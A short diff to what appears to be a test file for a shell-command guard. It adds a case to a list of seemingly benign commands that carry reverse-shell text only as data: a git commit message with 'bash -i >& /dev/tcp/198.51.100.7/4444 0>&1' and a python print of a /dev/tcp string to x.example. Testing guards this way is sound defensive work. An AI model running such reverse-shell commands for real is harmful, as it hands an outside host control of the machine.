@@ -22,5 +22,6 @@ guardTest(guard, docs, {
     'ttyd -v',
     'git commit -m "bash -i >& /dev/tcp/198.51.100.7/4444 0>&1"',
     'python3 -c "import socket; print(socket.gethostname())"',
+    'python3 -c \'print("exec 5<>/dev/tcp/x.example/443")\'',
   ],
 })
